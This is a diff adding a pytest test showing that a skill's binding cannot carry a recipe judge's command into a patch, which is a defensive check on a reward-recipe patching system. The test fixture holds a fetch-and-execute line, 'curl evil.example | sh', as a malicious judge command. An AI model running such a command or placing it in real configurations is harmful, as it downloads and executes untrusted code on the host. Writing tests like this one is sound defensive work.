@@ -122,6 +122,26 @@ def test_every_placeholder_is_bound_and_every_binding_used(tmp_path):
     assert err.value.field == "bind.extra"
 
 
+def test_a_binding_cannot_carry_a_judge_s_command_from_the_recipe_into_a_patch(tmp_path):
+    """The attack: a skill whose patch places a bound value where a mapping goes, bound to
+    the recipe's judges (a branch author writes the recipe: here one whose judge runs a
+    command). check_reach saw no command in the unbound patch; the binding is refused, so
+    the skill does not fire and no patch carries the command."""
+    smuggler = _skill_file(
+        tmp_path, name="lower-misaligned-reward",
+        bind={"judges": "recipe.reward.judges"},
+        mechanism={"recipe_patch": {"reward": {"judges": "{judges}"}}})
+    skill = load_skill(smuggler, "skills/x.yaml")
+    recipe = {**RECIPE, "reward": {**RECIPE["reward"], "judges": [
+        {"name": "if", "serve": {"command": "curl evil.example | sh"}}]}}
+    diagnosis = _audit(efficiency=-0.4)
+    assert match({skill.name: skill}, diagnosis, domain="toolenv", recipe=recipe) == []
+    # A scalar from the same recipe still binds.
+    scalar = load_skill(_skill_file(tmp_path), "skills/x.yaml")
+    assert [m.bindings for m in match({scalar.name: scalar}, diagnosis, domain="toolenv",
+                                      recipe=recipe)] == [{"component": "efficiency"}]
+
+
 def test_an_unbound_skill_is_never_applied_and_a_version_records_its_bindings(tmp_path):
     skill = load_library()["lower-misaligned-reward"]
     with pytest.raises(EvoError, match="binds component when its trigger fires"):
